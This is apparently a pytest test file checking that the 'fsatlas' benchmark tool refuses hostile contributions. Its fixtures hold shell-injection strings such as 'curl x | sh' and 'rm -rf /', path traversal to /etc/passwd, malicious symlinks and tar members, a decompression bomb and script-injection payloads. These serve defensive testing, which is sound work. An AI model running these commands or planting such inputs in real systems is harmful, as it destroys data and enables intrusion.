"""Hostile contributions: each case an attacker tried (or a careless file holds) is refused by
`fsatlas validate` and by `fsatlas aggregate` with one located line (the file, the JSON Pointer
or the entry, what was expected), exit status 1 and no traceback; and nothing outside the data
folder is read. The site side (published JSON escaped, the embed page, no dialog in Chromium) is
in tests/site/test_escaping.py."""
import io
import json
import os
import subprocess
import sys
import tarfile

import pytest

from testutil import setting, write_json
from fsatlas.errors import UserError
from fsatlas.results import resultfile

RID = "fixture-valid"
SECRET = "this-text-lives-outside-the-data-folder"


def _cells(data):
    return data["cells"]


def _raw_ref(value):
    def change(data):
        data["cells"][0]["raw"][0] = value
    return change


def _many_cells(count, reason=None):
    def change(data):
        cell = dict(data["cells"][2], **({"reason": reason} if reason else {}))
        data["cells"] = [dict(cell, key=f"jfs|-|-|seq-write|n={i}") for i in range(count)]
    return change


# (case, change to the valid result, JSON Pointer named, words of the message)
FIELD_CASES = [
    ("shell injection through the profile", setting(["profile"], "standard; curl x | sh #"), "/profile", "matching"),
    ("shell injection through a cell key", setting(["cells", 0, "key"], "ext4|-|-|seq-write'; rm -rf / #"),
     "/cells/0/key", "matching"),
    ("shell words in a mount option", setting(["cells", 0, "mount_options"], ["noatime;id"]),
     "/cells/0/mount_options/0", "matching"),
    ("a date before the project", setting(["created"], "2000-01-01T00:00:00Z"), "/created", "no earlier than"),
    ("31 February", setting(["created"], "2027-02-31T00:00:00Z"), "/created", "a real date"),
    ("year 0", setting(["created"], "0000-01-01T00:00:00Z"), "/created", "a real date"),
    ("a few hours in the future", None, "/created", "not in the future"),
    ("a sample of 1e308", setting(["cells", 0, "metrics", "throughput", "samples", 0], 1e308),
     "/cells/0/metrics/throughput/samples/0", "between -1e18 and 1e18"),
    ("an integer above 2^53", setting(["system", "memory_bytes"], 2 ** 60), "/system/memory_bytes", "2^53"),
    ("an integer above 64 bits", setting(["system", "memory_bytes"], 2 ** 70), "/system/memory_bytes",
     "between -1e18 and 1e18"),
    ("a right-to-left override left open", setting(["notes"], "fast \u202e!sdrawkcab"), "/notes", "bidirectional"),
    ("a huge key under tool", setting(["tool", "x" * 5000], "1"), "/tool", "a name of at most 50 characters, found 5000"),
    ("5,001 cells", _many_cells(5001), "/cells", "at most 5000 items, found 5001"),
    ("a raw path leaving the folder", _raw_ref("raw/../../../etc/passwd"), "/cells/0/raw/0",
     f"expected raw/{RID}/…, a member of raw/{RID}.tar.gz"),
    ("a raw path into another result", _raw_ref("raw/other/x/rep-1.json"), "/cells/0/raw/0", f"expected raw/{RID}/…"),
    ("a raw path nested 230 deep", _raw_ref(f"raw/{RID}/" + "a/" * 230 + "x.json"), "/cells/0/raw/0",
     "expected a member of the folder of this cell's key"),  # its place shows before the bundle is read
    ("a personal machine label", setting(["system", "machine"], "alice-laptop"), "/system/machine", "private"),
    ("5,000 cells of 2,600-character reasons", _many_cells(5000, "the filesystem is not in this kernel; " * 70), "/cells",
     "reasons to add up to at most 100,000 characters"),
    ("a metric name of 5,000 characters", setting(["cells", 0, "metrics", "x" * 5000], None), "/cells/0/metrics", "at most 64"),
]
# only what is in the bundle can tell (none now: a raw path nested 230 deep is outside its cell's
# folder, which the reference itself shows: validation.raw_place_problem)
INSIDE_THE_BUNDLE = set()


def _validate(*argv):
    """fsatlas validate as a reader runs it: a separate process, its output and exit status."""
    return subprocess.run([sys.executable, "-m", "fsatlas.cli", "validate", "--no-cache", *map(str, argv)],
                          capture_output=True, text=True, timeout=120)


def _aggregate(data_dir, tmp_path):
    return subprocess.run([sys.executable, "-m", "fsatlas.cli", "aggregate", "--data", str(data_dir),
                           "--content", str(tmp_path / "build" / "content")],
                          capture_output=True, text=True, timeout=120, cwd=tmp_path)


def _refused(done, file, pointer, words):
    assert done.returncode == 1, done.stdout + done.stderr
    assert "Traceback" not in done.stderr
    lines = [line for line in done.stderr.splitlines() if f"{file}: error: {pointer}" in line]
    assert lines and any(words in line for line in lines), done.stderr[-2000:]


@pytest.mark.parametrize("case,change,pointer,words", FIELD_CASES, ids=[c[0] for c in FIELD_CASES])
def test_a_hostile_field_is_refused_in_one_located_line(out_dir, valid_result, case, change, pointer, words):
    if change is None:  # dated by the clock of the test
        import datetime as dt
        soon = dt.datetime.now(dt.timezone.utc) + dt.timedelta(hours=3)
        change = setting(["created"], soon.strftime("%Y-%m-%dT%H:%M:%SZ"))
    change(valid_result)
    file = write_json(out_dir / "results" / f"{RID}.json", valid_result)
    _refused(_validate(out_dir / "results"), file, pointer, words)
    done = _aggregate(out_dir, out_dir.parent)
    if case in INSIDE_THE_BUNDLE:  # aggregate never opens a bundle; make site validates first
        assert done.returncode == 0
        return
    assert done.returncode == 1 and "Traceback" not in done.stderr and pointer in done.stderr


def _outside(tmp_path):
    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir(exist_ok=True)
    secret.write_text(SECRET)
    return secret


# (case, what to put in data/results, the words that name it)
ENTRY_CASES = [
    ("an HTML file", lambda d, s: (d / "evil.html").write_text("<script>alert(1)</script>"), "not named <id>.json"),
    ("a link to a folder", lambda d, s: os.symlink(s.parent, d / "repo"), "a symbolic link"),
    ("a link to a file outside", lambda d, s: os.symlink(s, d / "passwd.json"), "a symbolic link"),
    ("a link to /dev/zero", lambda d, s: os.symlink("/dev/zero", d / "zero.json"), "a symbolic link"),
    ("a folder", lambda d, s: (d / "sub.json").mkdir(), "a folder"),
    ("a pipe", lambda d, s: os.mkfifo(d / "pipe.json"), "a pipe"),
    ("a link loop", lambda d, s: os.symlink(d / "loop.json", d / "loop.json"), "a symbolic link"),
    ("the reserved id index", lambda d, s: (d / "index.json").write_text("{}"), "reserved id 'index'"),
    ("the reserved id index.xml", lambda d, s: (d / "index.xml.json").write_text("{}"), "reserved id"),
    ("the reserved id page", lambda d, s: (d / "page.json").write_text("{}"), "reserved id 'page'"),
    ("the id _index", lambda d, s: (d / "_index.json").write_text("{}"), "not named <id>.json"),
    ("the id ..", lambda d, s: (d / "...json").write_text("{}"), "not named <id>.json"),
    ("a dot file", lambda d, s: (d / ".hidden.json").write_text("{}"), "not named <id>.json"),
]


@pytest.mark.parametrize("case,make,words", ENTRY_CASES, ids=[c[0] for c in ENTRY_CASES])
def test_anything_but_a_result_file_in_results_is_refused_and_never_read(out_dir, tmp_path, case, make, words):
    results = out_dir / "results"
    make(results, _outside(tmp_path))
    done = _validate(results)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    (line,) = [line for line in done.stderr.splitlines() if "expected only result files" in line]
    assert words in line and str(results) in line
    assert SECRET not in done.stdout + done.stderr
    done = _aggregate(out_dir, tmp_path)
    assert done.returncode == 1 and "Traceback" not in done.stderr and words in done.stderr
    assert not (tmp_path / "build" / "static").exists() or \
        SECRET not in "".join(p.read_text(errors="replace") for p in (tmp_path / "build" / "static").rglob("*") if p.is_file())


def _member(name, kind=tarfile.REGTYPE, data=b"x", **fields):
    info = tarfile.TarInfo(name)
    info.type, info.size = kind, len(data) if kind == tarfile.REGTYPE else 0
    for key, value in fields.items():
        setattr(info, key, value)
    return info, data


# (case, the bundle's members besides the fixture's own, the words that name it)
BUNDLE_CASES = [
    ("a symbolic link to a file outside", [_member("ext4__-__-__seq-write/rep-1.json", tarfile.SYMTYPE, linkname="/etc/passwd")],
     "found a symbolic link"),
    ("a hard link", [_member("xfs__-__-__rand-read-4k/rep-9.json", tarfile.LNKTYPE, linkname="/etc/passwd")], "a hard link"),
    ("a device", [_member("dev-zero", tarfile.CHRTYPE, devmajor=1, devminor=5)], "a device or pipe"),
    ("a pipe", [_member("fifo", tarfile.FIFOTYPE)], "a device or pipe"),
    ("an absolute name", [_member("/tmp/fsatlas-planted")], "expected a relative name"),
    ("a name climbing out", [_member("../../fsatlas-planted")], "expected a relative name"),
    ("a member of 65 MiB (a bomb: 64 KiB compressed)", [_member("zeros", data=bytes(65 * 2**20))], "member too large"),
    ("a member twice", [_member("ext4__-__-__seq-write/rep-1.json", data=b"{}")], "each member once"),
]


def _hostile_bundle(out_dir, extra):
    from fsatlas.results import bundle
    members = bundle.read(str(out_dir), RID)
    with tarfile.open(bundle.path(str(out_dir), RID), "w:gz") as archive:
        for name, data in sorted(members.items()):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for info, data in extra:
            archive.addfile(info, io.BytesIO(data) if info.isfile() else None)


@pytest.mark.parametrize("case,extra,words", BUNDLE_CASES, ids=[c[0] for c in BUNDLE_CASES])
def test_a_hostile_bundle_member_is_refused_and_nothing_is_written(out_dir, tmp_path, case, extra, words):
    """A bundle is read into memory within limits, never unpacked on the way: one located line."""
    _hostile_bundle(out_dir, extra)
    before = sorted(p for p in tmp_path.rglob("*"))
    for done in (_validate(out_dir / "results"), _aggregate_after_validate(out_dir, tmp_path)):
        assert done.returncode == 1 and "Traceback" not in done.stderr
        (line,) = [line for line in done.stderr.splitlines() if f"raw/{RID}.tar.gz member" in line]
        assert words in line and "error: /:" in line
    assert not os.path.exists("/tmp/fsatlas-planted") and not (tmp_path / "fsatlas-planted").exists()
    assert [p for p in sorted(tmp_path.rglob("*")) if p not in before and "build" not in p.parts] == []
    from fsatlas.errors import UserError
    from fsatlas.results import bundle
    with pytest.raises(UserError, match=words):  # a resumed run refuses it too, before writing a file
        bundle.unpack(str(out_dir), RID)
    assert not (out_dir / "raw" / RID).exists()


def _aggregate_after_validate(out_dir, tmp_path):
    """aggregate keeps validate's outcome (its errors are rechecked only when the bundle changes)."""
    subprocess.run([sys.executable, "-m", "fsatlas.cli", "validate", str(out_dir / "results")],
                   capture_output=True, cwd=tmp_path, timeout=120)
    return _aggregate(out_dir, tmp_path)


@pytest.mark.parametrize("case,make,words", [
    ("a link to a file outside", lambda path, secret: os.symlink(secret, path), "found a symbolic link"),
    ("damaged", lambda path, secret: path.write_bytes(b"\x1f\x8b garbage"), "found damage"),
    ("a folder", lambda path, secret: path.mkdir(), "expected a regular file"),
    ("missing", lambda path, secret: None, "found none"),
])
def test_a_bundle_that_is_not_a_gzip_tar_file_is_refused(out_dir, tmp_path, case, make, words):
    path = out_dir / "raw" / f"{RID}.tar.gz"
    path.unlink()
    make(path, _outside(tmp_path))
    done = _validate(out_dir / "results")
    assert done.returncode == 1 and "Traceback" not in done.stderr
    (line,) = [line for line in done.stderr.splitlines() if f"{RID}.json: error: /:" in line]
    assert words in line and f"raw/{RID}.tar.gz" in line
    assert SECRET not in done.stdout + done.stderr


def test_a_raw_folder_left_beside_the_bundle_is_refused_and_migrate_refuses_a_pipe_in_it(out_dir):
    folder = out_dir / "raw" / RID
    folder.mkdir()
    os.mkfifo(folder / "stray")
    done = _validate(out_dir / "results")
    assert done.returncode == 1 and f"found the folder raw/{RID}/" in done.stderr and "fsatlas migrate" in done.stderr
    done = subprocess.run([sys.executable, "-m", "fsatlas.cli", "migrate", "--data", str(out_dir)],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert f"raw/{RID}/stray" in done.stderr and "expected only folders and regular files" in done.stderr
    assert folder.is_dir() and (out_dir / "raw" / f"{RID}.tar.gz").is_file()  # nothing changed


def test_a_result_file_that_is_a_link_to_dev_zero_is_never_read(out_dir, tmp_path):
    link = tmp_path / "zero.json"
    os.symlink("/dev/zero", link)
    done = _validate(link)
    assert done.returncode == 1 and f"{link}: error: /: expected a regular file, found a symbolic link" in done.stderr


def test_files_above_the_size_limit_are_refused_before_they_are_parsed(tmp_path):
    """The 46 MB file of two million trivial cells that once took all 24 GiB."""
    big = tmp_path / "results" / "big.json"
    big.parent.mkdir()
    cell = b'{"key":"k","status":"skipped","reason":"r"},'
    with open(big, "wb") as f:
        f.write(b'{"schema_version":1,"id":"big","cells":[')
        for _ in range(46 * 2 ** 20 // len(cell) // 4096):
            f.write(cell * 4096)
        f.write(b'{}]}')
    done = _validate(big)
    assert done.returncode == 1
    assert f"{big}: error: /: expected at most {resultfile.MAX_FILE_BYTES} bytes, found more" in done.stderr
    assert _validate("--max-bytes", 1000, tmp_path / "results").returncode == 1


def test_a_file_that_grew_after_its_fstat_is_read_whole_up_to_the_limit(tmp_path, monkeypatch):
    """read_file reads what fstat gave and one byte more; a file longer by then is still read to
    its end, or refused once it passes the limit, never cut short."""
    grown = tmp_path / "grown.json"
    grown.write_bytes(b"x" * 5000)
    real_fstat = os.fstat

    def fstat_before_it_grew(fd):  # 100 bytes long then
        st = real_fstat(fd)
        return os.stat_result(st[:6] + (100,) + st[7:10])

    monkeypatch.setattr(resultfile.os, "fstat", fstat_before_it_grew)
    assert resultfile.read_file(str(grown), 5000)[0] == b"x" * 5000
    with pytest.raises(UserError, match="expected at most 4999 bytes, found more"):
        resultfile.read_file(str(grown), 4999)


def test_json_nested_100000_deep_is_refused_in_one_line(tmp_path):
    deep = tmp_path / "results" / "deep.json"
    deep.parent.mkdir()
    deep.write_text('{"id":' + "[" * 100_000 + "]" * 100_000 + "}")
    done = _validate(deep)
    assert done.returncode == 1 and "Traceback" not in done.stderr and f"{deep}: error: /: malformed JSON" in done.stderr


def test_at_most_twenty_problems_are_listed_per_file(out_dir, valid_result):
    valid_result["cells"] = [dict(valid_result["cells"][2], key=f"jfs|-|-|seq-write|n={i}", status="bogus")
                             for i in range(30)]
    file = write_json(out_dir / "results" / f"{RID}.json", valid_result)
    done = _validate(file)
    assert done.returncode == 1
    assert len([line for line in done.stderr.splitlines() if ": error: " in line]) == 20
    assert f"{file}: … and 10 more problems" in done.stderr


def test_contributor_text_stays_data_in_every_published_json(out_dir, valid_result, tmp_path):
    """Free text may hold markup (it is shown as text); every JSON file the site publishes has
    it escaped, the result file included, so no page that fetches one can read it as markup."""
    evil = '</script><script>alert(1)</script>&amp;\u2028'
    valid_result["notes"] = evil
    valid_result["submitter"] = evil
    write_json(out_dir / "results" / f"{RID}.json", valid_result)
    done = _aggregate(out_dir, tmp_path)
    assert done.returncode == 0, done.stderr
    published = list((tmp_path / "build" / "static").rglob("*.json"))
    assert any(p.name == f"{RID}.json" and p.parent.name == "results" and p.parent.parent.name == "files"
               for p in published)
    for path in published:
        text = path.read_text()
        assert "<" not in text and ">" not in text and "&" not in text and "\u2028" not in text, path
    copy = json.loads((tmp_path / "build" / "static" / "files" / "results" / f"{RID}.json").read_text())
    assert copy == valid_result  # the same value, escaped
    page = (tmp_path / "build" / "content" / "results" / f"{RID}.md").read_text()
    assert "</script>" not in page


@pytest.mark.parametrize("fmt,text", [
    ("dd", "1+0 records out\n" + "1" * 4_000_000 + "\n"),  # one digit run: a regex must not try every start
    ("dd", "1+0 records out\n" + "(" * 4_000_000 + "\n"),  # parentheses never closed
    ("fio", "3;fio-3.33;" + ";" * 4_000_000 + "\n"),  # a terse line of nothing
    ("bonnie", "h,1G" + ",1" * 2_000_000 + "\n"),
], ids=["dd-digits", "dd-parentheses", "fio-terse-empty", "bonnie-long"])
def test_a_pathological_output_ends_in_one_line_not_a_hang(tmp_path, fmt, text):
    """An importer reads a contributed file with regular expressions: on megabytes made to make
    one backtrack (a line of digits, of open parentheses), it still ends, with one line."""
    (tmp_path / "in.txt").write_text(text)
    done = subprocess.run([sys.executable, "-m", "fsatlas.cli", "import", fmt, str(tmp_path / "in.txt"),
                           "--filesystem", "ext4", "--out", str(tmp_path / "o")],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 1 and "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1


def test_stray_files_and_links_in_raw_are_refused(out_dir):
    """Only the bundles of the result files may sit in raw/: anything else a contribution adds
    there (a file, a link, a bundle of no result) is refused in one line naming it."""
    raw = out_dir / "raw"
    (raw / "notes.txt").write_text("x")
    (raw / "orphan.tar.gz").write_bytes((raw / f"{RID}.tar.gz").read_bytes())
    os.symlink("/etc/passwd", raw / "link.tar.gz")
    done = _validate(out_dir / "results")
    assert done.returncode == 1 and "Traceback" not in done.stderr
    for name, words in (("notes.txt", "a file that is no result's bundle"),
                        ("orphan.tar.gz", "the bundle of 'orphan', which has no result file"),
                        ("link.tar.gz", "a symbolic link")):
        assert any(line.startswith(f"{raw / name}: error: /: expected only the raw bundles") and words in line
                   for line in done.stderr.splitlines()), (name, done.stderr)
    assert f"{RID}.tar.gz: error" not in done.stderr
